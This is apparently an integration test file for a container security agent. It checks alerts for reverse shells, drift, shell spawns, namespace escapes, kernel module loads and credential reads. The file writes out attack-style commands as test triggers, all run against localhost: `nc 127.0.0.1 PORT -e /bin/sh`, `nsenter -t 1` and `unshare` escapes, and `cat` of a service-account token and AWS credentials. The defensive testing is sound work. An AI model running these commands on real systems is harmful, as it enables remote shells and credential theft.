#!/usr/bin/env python3
"""Attacks in real containers (issue 12, item 8): podman with runc runs the
busybox image (tests/integration/podman.py); the real agent (proc collector,
netlink or /proc scans) ships what happens in them to the real bulwarkd with
the default rules, and the test reads the stored events and alerts.

- attribution: an exec inside a podman container is stored with the
  container's id, name, image and runtime "podman";
- a reverse shell by its stdio: `nc 127.0.0.1 PORT -e /bin/sh` leaves a sh
  whose stdin/stdout is a TCP socket -> "Reverse shell (stdio is a network
  socket)" with the peer's address; a sh on pipes does not fire it; the
  same on the host with a shell whose stdio is a TCP connection of this test;
- drift: busybox copied to /tmp inside the running container and run ->
  "Drift: executable not in the container image" (upper layer, written after
  the start), and copied to a tmpfs and run (not the overlay: written after
  the start only); the image's own sleep does not fire it;
- a shell spawned by a process in the container -> "Shell spawned in a
  container"; one run by the runtime (podman exec) does not;
- nsenter and unshare in a (privileged) container -> "Namespace or mount
  escape from a container"; a sleep beside them does not;
- insmod in a container -> "Kernel module loaded from a container";
- cat of the service-account token and of root's AWS credentials in a
  container (file collector, fanotify opens) -> "Credential file read in a
  container"; wc, which is not a credential reader, opening the token does
  not fire it.
Needs root (skipped otherwise); podman, runc and busybox-static come from
deploy/install-deps.sh."""
import os
import socket
import subprocess
import uuid

import harness
import podman

KIND_EXEC, KIND_FILE = 10, 12
FILE_OPS = {0: "write", 1: "create", 2: "rename", 3: "delete", 4: "chmod", 5: "open"}
EXEC_FIELDS = {11: "stdin_socket", 12: "stdout_socket", 13: "stderr_socket",
               14: "stdio_remote_addr", 15: "stdio_remote_port", 16: "exe_upper_layer",
               17: "exe_written_after_start"}
PROC_FIELDS = {1: "pid", 2: "ppid", 5: "exe", 6: "name", 7: "cmdline", 8: "parent_name"}
CONTAINER_FIELDS = {1: "id", 2: "name", 3: "image", 5: "runtime"}

REVERSE_SHELL = "Reverse shell (stdio is a network socket)"
DRIFT = "Drift: executable not in the container image"
SHELL = "Shell spawned in a container"
ESCAPE = "Namespace or mount escape from a container"
KMOD = "Kernel module loaded from a container"
CRED = "Credential file read in a container"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"

AGENT_OPTS = {"source": "host", "collect_file": "false", "collect_config": "false",
              "collect_net": "false", "collect_resource": "false", "scan_interval_ms": 100}
# The credential test needs the file collector (fanotify): on the host it
# watches only /etc besides the credential directories.
TEST_AGENT_OPTS = {"test_credential_read": {"collect_file": "true", "file_paths": "/etc"}}


def message(data, names):
    out = {}
    for f, _, v in harness.pb_decode(data):
        if f in names:
            out[names[f]] = v.decode() if isinstance(v, bytes) else v
    return out


def exec_event(body):
    """{container, process, exec, file} of a stored event's body (dicts)."""
    ev = {"container": {}, "process": {}, "exec": {}, "file": {}}
    for f, _, v in harness.pb_decode(body):
        if f == 4:
            ev["container"] = message(v, CONTAINER_FIELDS)
        elif f == 5:
            ev["process"] = message(v, PROC_FIELDS)
        elif f == KIND_EXEC:
            ev["exec"] = message(v, EXEC_FIELDS)
        elif f == KIND_FILE:
            ev["file"] = {"op": "write", **message(v, {1: "op", 2: "path"})}
            ev["file"]["op"] = FILE_OPS.get(ev["file"]["op"], ev["file"]["op"])
    return ev


class ContainersLiveTest(harness.BulwarkTest):
    def setUp(self):
        super().setUp()
        self.pm = podman.tmp_podman(self)
        self.image = self.pm.ensure_image()
        self.prefix = "bw-" + uuid.uuid4().hex[:8]
        certs = self.certs("ct-agent")
        self.server = self.start_server(certs, rules=os.path.join(harness.SOURCE_DIR, "rules"))
        opts = dict(AGENT_OPTS, **TEST_AGENT_OPTS.get(self._testMethodName, {}))
        self.agent = self.start_agent(certs, self.server, "ct-agent", **opts)
        self.agent.proc.wait_for(harness.CONNECTED_RE, timeout=60)
        self.agent.proc.wait_for(r"collectors running", timeout=30)

    def tearDown(self):
        self.pm.cleanup()
        super().tearDown()

    def finish(self):
        self.stop_server(self.server)
        self.agent.proc.terminate()
        self.assertEqual(self.agent.proc.wait(30), 0)
        self.assert_clean(self.agent.proc)

    # ------------------------------------------------------------ helpers

    def container(self, what, *cmd, privileged=False, extra=()):
        name = f"{self.prefix}-{what}"
        cid = self.pm.run(name, *cmd, privileged=privileged, extra=extra)
        return name, cid

    def execs(self, kind=KIND_EXEC):
        return [exec_event(b) for (b,) in harness.db_query(
            self.server.db, "SELECT body FROM events WHERE kind = ?", (kind,))]

    def wait_exec(self, pred, what, timeout=60):
        def find():
            for ev in self.execs():
                if pred(ev):
                    return ev
            return None
        return harness.wait_until(find, timeout, interval=0.2, what=what)

    def alerts(self, rule):
        """[(count, output)] of rule's alerts."""
        return harness.db_query(self.server.db,
                                "SELECT count, output FROM alerts WHERE rule = ?", (rule,))

    def wait_alert(self, rule, needle, timeout=30):
        return harness.wait_until(
            lambda: [a for a in self.alerts(rule) if needle in a[1]], timeout, interval=0.2,
            what=f"alert '{rule}' naming {needle!r}: have {self.alerts(rule)}")

    def alert_events(self, rule):
        """Exec events that are evidence of rule's alerts."""
        rows = harness.db_query(
            self.server.db, "SELECT e.body FROM alerts a JOIN alert_evidence v ON v.alert_id = a.id "
            "JOIN events e ON e.id = v.event_id WHERE a.rule = ?", (rule,))
        return [exec_event(b) for (b,) in rows]

    # -------------------------------------------------------------- tests

    def test_attribution_and_shell_spawned(self):
        name, cid = self.container("attr", "/bin/sleep", "600")
        marker = "27.1828"
        self.pm.exec(name, "sleep", marker, detach=True)
        ev = self.wait_exec(lambda e: e["process"].get("cmdline") == f"sleep {marker}",
                            "the exec in the container")
        c = ev["container"]
        self.assertEqual(c.get("id"), cid, ev)
        self.assertEqual(c.get("runtime"), "podman", ev)
        self.assertEqual(c.get("name"), name, ev)
        self.assertEqual(c.get("image"), self.image, ev)
        self.assertFalse(ev["exec"].get("exe_upper_layer"), ev)

        # podman exec runs this shell (parent runc, no tty): not an alert;
        # the shell it starts (parent sh) is one. The inner one is named by
        # its path: busybox's sh runs a bare applet name through
        # /proc/self/exe, which makes its comm (proc.name) "exe".
        outer = "sh -c \"/bin/sh -c 'sleep 31.4; true'; true\""
        self.pm.exec(name, "sh", "-c", "/bin/sh -c 'sleep 31.4; true'; true", detach=True)
        inner = self.wait_exec(lambda e: e["process"].get("cmdline") == "/bin/sh -c sleep 31.4; true",
                               "the inner shell")
        self.assertEqual(inner["process"].get("parent_name"), "sh")
        self.assertEqual(inner["process"].get("name"), "sh")
        self.wait_alert(SHELL, "/bin/sh -c sleep 31.4")
        fired = [e["process"].get("cmdline") for e in self.alert_events(SHELL)]
        self.assertEqual(fired, ["/bin/sh -c sleep 31.4; true"], f"not the outer {outer}")
        self.finish()

    def test_reverse_shell_by_stdio(self):
        name, cid = self.container("rsh", "/bin/sleep", "600")
        port = 4444
        # A listener that holds the connection open (its stdin never ends).
        self.pm.exec(name, "sh", "-c", f"sleep 300 | nc -l -p {port} >/dev/null", detach=True)
        self.wait_exec(lambda e: e["process"].get("cmdline") == f"nc -l -p {port}", "the listener")
        # A shell on pipes: quiet.
        self.pm.exec(name, "sh", "-c", "sleep 300 | sh -c 'cat; sleep 1.5' | cat", detach=True)
        piped = self.wait_exec(lambda e: e["process"].get("cmdline") == "sh -c cat; sleep 1.5",
                               "the shell on pipes")
        self.assertFalse(piped["exec"].get("stdin_socket") or piped["exec"].get("stdout_socket"),
                         piped)
        # nc execs /bin/sh with the connection as its stdio.
        self.pm.exec(name, "nc", "127.0.0.1", str(port), "-e", "/bin/sh", detach=True)
        sh = self.wait_exec(lambda e: e["process"].get("cmdline") == "/bin/sh"
                            and e["container"].get("id") == cid, "the shell on the socket")
        x = sh["exec"]
        self.assertTrue(x.get("stdin_socket") and x.get("stdout_socket"), sh)
        self.assertEqual(x.get("stdio_remote_addr"), "127.0.0.1", sh)
        self.assertEqual(x.get("stdio_remote_port"), port, sh)
        self.wait_alert(REVERSE_SHELL, f"127.0.0.1:{port}")
        fired = {e["process"].get("cmdline") for e in self.alert_events(REVERSE_SHELL)}
        self.assertEqual(fired, {"/bin/sh"}, "only the shell on the socket fires")
        self.finish()

    def test_reverse_shell_on_host(self):
        lsock = socket.create_server(("127.0.0.1", 0))
        port = lsock.getsockname()[1]
        csock = socket.create_connection(("127.0.0.1", port))
        ssock, _ = lsock.accept()
        self.addCleanup(lambda: [s.close() for s in (csock, ssock, lsock)])
        marker = "read -r line # 71.5"
        piped = subprocess.Popen(["/bin/sh", "-c", marker + " pipe"], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE)
        shell = subprocess.Popen(["/bin/sh", "-c", marker], stdin=csock, stdout=csock)
        for p in (piped, shell):
            self.addCleanup(p.wait)
            self.addCleanup(p.kill)
        ev = self.wait_exec(lambda e: e["process"].get("pid") == shell.pid, "the host shell")
        self.assertEqual(ev["exec"].get("stdio_remote_addr"), "127.0.0.1", ev)
        self.assertEqual(ev["exec"].get("stdio_remote_port"), port, ev)
        self.assertEqual(ev["container"], {}, ev)
        self.wait_exec(lambda e: e["process"].get("pid") == piped.pid, "the shell on pipes")
        self.wait_alert(REVERSE_SHELL, f"127.0.0.1:{port}")
        fired = {e["process"].get("pid") for e in self.alert_events(REVERSE_SHELL)}
        self.assertEqual(fired, {shell.pid})
        self.finish()

    def test_drift(self):
        name, cid = self.container("drift", "/bin/sleep", "600",
                                   extra=("--tmpfs", "/scratch:rw,exec"))
        # The image's own busybox: quiet.
        self.pm.exec(name, "/bin/sleep", "41.5", detach=True)
        own = self.wait_exec(lambda e: e["process"].get("cmdline") == "/bin/sleep 41.5",
                             "the image's sleep")
        self.assertFalse(own["exec"].get("exe_upper_layer"), own)
        self.assertFalse(own["exec"].get("exe_written_after_start"), own)
        # A copy written after the start (busybox picks the applet by name).
        self.pm.exec(name, "cp", "/bin/busybox", "/tmp/sleep")
        self.pm.exec(name, "/tmp/sleep", "42.5", detach=True)
        ev = self.wait_exec(lambda e: e["process"].get("cmdline") == "/tmp/sleep 42.5",
                            "the copied sleep")
        self.assertEqual(ev["process"].get("exe"), "/tmp/sleep", ev)
        self.assertTrue(ev["exec"].get("exe_upper_layer"), ev)
        self.assertTrue(ev["exec"].get("exe_written_after_start"), ev)
        self.assertEqual(ev["container"].get("id"), cid, ev)
        self.wait_alert(DRIFT, "/tmp/sleep")
        # On a tmpfs: not in the overlay, but written after the start.
        self.pm.exec(name, "cp", "/bin/busybox", "/scratch/sleep")
        self.pm.exec(name, "/scratch/sleep", "43.5", detach=True)
        ev = self.wait_exec(lambda e: e["process"].get("cmdline") == "/scratch/sleep 43.5",
                            "the sleep copied to the tmpfs")
        self.assertFalse(ev["exec"].get("exe_upper_layer"), ev)
        self.assertTrue(ev["exec"].get("exe_written_after_start"), ev)
        harness.wait_until(lambda: len(self.alert_events(DRIFT)) >= 2, 30,
                           what="both copies as evidence")
        fired = {e["process"].get("cmdline") for e in self.alert_events(DRIFT)}
        self.assertEqual(fired, {"/tmp/sleep 42.5", "/scratch/sleep 43.5"},
                         "only the copied binaries fire")
        self.finish()

    def test_namespace_escape(self):
        name, cid = self.container("esc", "/bin/sleep", "600", privileged=True)
        # A neighbour in the same container: quiet.
        self.pm.exec(name, "sleep", "51.5", detach=True)
        self.wait_exec(lambda e: e["process"].get("cmdline") == "sleep 51.5", "the neighbour")
        # Both fork and wait, so the escaping process lives while it is read.
        self.pm.exec(name, "unshare", "-m", "-f", "sleep", "52.5", detach=True)
        self.pm.exec(name, "nsenter", "-t", "1", "-m", "-p", "sleep", "53.5", detach=True)
        self.wait_exec(lambda e: e["process"].get("cmdline") == "unshare -m -f sleep 52.5",
                       "unshare")
        self.wait_exec(lambda e: e["process"].get("cmdline") == "nsenter -t 1 -m -p sleep 53.5",
                       "nsenter")
        self.wait_alert(ESCAPE, "unshare -m -f sleep 52.5")
        harness.wait_until(lambda: len(self.alert_events(ESCAPE)) >= 2, 30,
                           what="both escapes as evidence")
        fired = {e["process"].get("cmdline") for e in self.alert_events(ESCAPE)}
        self.assertEqual(fired, {"unshare -m -f sleep 52.5", "nsenter -t 1 -m -p sleep 53.5"})
        self.finish()

    def test_kernel_module_tool(self):
        name, cid = self.container("kmod", "/bin/sleep", "600")
        self.pm.exec(name, "sleep", "61.5", detach=True)
        self.wait_exec(lambda e: e["process"].get("cmdline") == "sleep 61.5", "the neighbour")
        # insmod blocks opening a FIFO as its module, so it lives to be read;
        # no module is loaded.
        self.pm.exec(name, "mkfifo", "/tmp/m.ko")
        self.pm.exec(name, "insmod", "/tmp/m.ko", detach=True)
        self.wait_exec(lambda e: e["process"].get("cmdline") == "insmod /tmp/m.ko", "insmod")
        self.wait_alert(KMOD, "insmod /tmp/m.ko")
        fired = {e["process"].get("cmdline") for e in self.alert_events(KMOD)}
        self.assertEqual(fired, {"insmod /tmp/m.ko"})
        self.finish()

    def test_credential_read(self):
        name, cid = self.container("cred", "/bin/sleep", "600")
        # Readers that block on a FIFO after the file, so they live to be
        # named; a bare cat exits in a few ms, unnamed, and counts as one.
        self.pm.exec(name, "mkfifo", "/tmp/hold")

        def opens(proc, path):
            return [e for e in self.execs(KIND_FILE)
                    if e["file"] == {"op": "open", "path": path}
                    and e["process"].get("name") == proc and e["container"].get("id") == cid]

        # The file collector finds the new container within its rescan
        # period: wc (not a credential reader) opens the token until its
        # open is stored, which shows the directory is watched.
        def watched():
            self.pm.exec(name, "wc", "-c", TOKEN, "/tmp/hold", detach=True)
            return opens("wc", TOKEN)
        harness.wait_until(watched, 60, interval=0.5, what="wc's open of the token")
        self.pm.exec(name, "cat", TOKEN, "/tmp/hold", detach=True)
        self.pm.exec(name, "cat", "/root/.aws/credentials")
        harness.wait_until(lambda: len(self.alert_events(CRED)) >= 2, 30,
                           what="both reads as evidence")
        fired = {(e["process"].get("name"), e["file"].get("path")) for e in self.alert_events(CRED)}
        self.assertIn(("cat", TOKEN), fired)
        self.assertEqual({p for _, p in fired}, {TOKEN, "/root/.aws/credentials"}, fired)
        self.assertNotIn("wc", {n for n, _ in fired}, fired)
        self.finish()


if __name__ == "__main__":
    harness.main()
